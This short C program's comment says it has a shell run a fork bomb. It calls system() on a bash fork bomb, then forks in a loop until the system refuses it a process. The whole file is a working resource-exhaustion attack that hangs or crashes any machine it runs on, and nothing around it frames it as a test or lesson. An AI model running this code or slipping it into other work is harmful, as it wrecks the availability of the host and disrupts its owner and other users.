// Has a shell run its fork bomb, and ends when it is refused a process itself.
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void) {
    system("bomb() { bomb | bomb & }; bomb 2> /dev/null");
    pid_t child;
    while ((child = fork()) > 0) {
        waitpid(child, NULL, 0);
    }
    return 0;
}
